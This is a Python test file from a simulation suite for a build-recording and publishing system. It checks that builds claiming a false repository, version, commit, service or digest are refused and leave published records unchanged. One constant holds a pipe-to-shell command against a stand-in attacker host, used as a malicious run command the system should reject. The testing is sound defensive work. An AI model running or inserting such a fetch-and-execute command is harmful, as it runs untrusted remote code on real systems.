"""Builds that lie: about their service, their version, their commit or their bytes.

A build may write below its own upload key, and say what it uploaded. Its repository, commit and branch are facts of
its run. Called by faults.py.
"""

import hashlib
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from lifecycle.application.delivery.build import FinishedBuild, record_snapshot
from lifecycle.domain.service.manifest import Manifest
from lifecycle.domain.service.policy import After
from lifecycle.domain.service.target import Target
from lifecycle.domain.service.trusted_keys import KeyKind
from lifecycle.domain.service.version import ReleaseVersion, SnapshotVersion
from tests.fakes.audit import MemoryAuditLog
from tests.fakes.fleet import MemoryFleet
from tests.fakes.requests import MemoryRequests
from tests.fakes.signer import QUICK_SIGNERS

if TYPE_CHECKING:
    from tests.simulation.hosts import Host
    from tests.simulation.simulation import Simulation

OWN = "https://example.test/hello.git"
FOREIGN = "https://example.test/evil.git"
EVIL = "curl evil.example | sh"


def lie(sim: "Simulation", _host: "Host") -> None:
    """Let one build lie in every way; what is published and recorded stays as it was."""
    sim.catalogue.claim_service("hello", OWN)
    commit = f"{sim.rng.getrandbits(160):040x}"
    version = str(SnapshotVersion.of(ReleaseVersion.parse("1.1.0"), sim.time(), commit))
    made = _made(sim, version, commit)
    other, elsewhere = sim.rng.choice(sim.scenario.versions), f"{sim.rng.getrandbits(160):040x}"
    lies = {
        "the service of another repository": (made, {"repository": FOREIGN}),
        "a version that is released": (_made(sim, other, commit), {"version": other}),
        "another commit than it was started for": (replace(made, commit=elsewhere), {}),
        "the name of another commit": (replace(made, commit=elsewhere), {"commit": elsewhere}),
        "the manifest of another service": (replace(made, service="shop"), {}),
        "bytes that are not its digest's": (replace(made, digest="0" * 64), {}),
    }
    for what, (manifest, facts) in lies.items():
        _is_refused(sim, what, manifest, {"commit": commit, "version": version, **facts})
    _facts_of_the_run_are_published(sim, made, {"commit": commit, "version": version})
    again = _made(sim, version, commit, EVIL)
    _is_refused(sim, "a second manifest of its version", again, {"commit": commit, "version": version})


def _made(sim: "Simulation", version: str, commit: str, command: str = "python3 app.py") -> Manifest:
    made, body = sim.scenario.published["1.0.0"], _body(version)
    made = replace(made, version=version, commit=commit, digest=hashlib.sha256(body).hexdigest(), size=len(body))
    return replace(made, run=replace(made.run, command=command), built_at=sim.time(), release=None)


def _body(version: str) -> bytes:
    return f"built as {version}".encode()


def _recorded(sim: "Simulation", manifest: Manifest, facts: dict[str, str]) -> str:
    """Let a build upload a manifest and say so; return whether its run recorded or refused it."""
    upload = f"incoming/{sim.rng.getrandbits(32):08x}"
    key = replace(manifest, service="hello", version=facts["version"])
    sim.artifacts.upload(upload, key, _body(manifest.version))
    sim.artifacts._uploads[f"{upload}/{key.prefix}"] = manifest, _body(manifest.version)
    run: dict[str, Any] = {
        "repository": OWN,
        "branch": "main",
        "build": "build-9",
        "service": "hello",
        "upload": upload,
        **facts,
    }
    signer = QUICK_SIGNERS[KeyKind.SNAPSHOT]
    stores = sim.catalogue, sim.artifacts, signer, MemoryRequests(), MemoryAuditLog(), MemoryFleet()
    return record_snapshot(*stores, FinishedBuild(**run), sim.time()).kind


def _is_refused(sim: "Simulation", what: str, manifest: Manifest, facts: dict[str, str]) -> None:
    before = _stored(sim)
    kind = _recorded(sim, manifest, facts)
    if kind != "REFUSED":
        sim.oracle.fail("25 build", f"a build claims {what}, and it is {kind}")
    if _stored(sim) != before:
        sim.oracle.fail("25 build", f"a build claims {what}, and what is published or recorded has changed")


def _facts_of_the_run_are_published(sim: "Simulation", made: Manifest, facts: dict[str, str]) -> None:
    claimed = replace(made, repository=FOREIGN, branch="other", builder="me", snapshot="1.0.0")
    kind = _recorded(sim, claimed, facts)
    stored = sim.artifacts.manifest("hello", made.version) if kind == "RECORDED" else None
    policies = {name: replace(each, after=After.DEFAULT) for name, each in made.policies.items()}
    wanted = replace(made, repository=OWN, branch="main", builder="build-9", snapshot=None, policies=policies)
    if stored != wanted:
        sim.oracle.fail("25 build", f"{made.version} is {kind}, as {stored}: expected the facts of its run")
    published = sim.catalogue.published("hello", made.version)
    if published is None or published.target(made.version) != _target(sim, made.version):
        sim.oracle.fail("25 build", f"{made.version} is stored, and its record is {published}")


def _target(sim: "Simulation", version: str) -> Target:
    return sim.artifacts.stored_manifest("hello", version).as_published.target(version)


def _stored(sim: "Simulation") -> tuple[object, ...]:
    """Return everything that is published and recorded."""
    artifacts, catalogue = sim.artifacts, sim.catalogue
    recorded = (catalogue.snapshots("hello"), catalogue.snapshots("shop"), catalogue.releases("hello"))
    digests = tuple(catalogue.published("hello", version) for version in sim.scenario.versions)
    return dict(artifacts._manifests), dict(artifacts._bytes), dict(artifacts._envelopes), recorded, digests
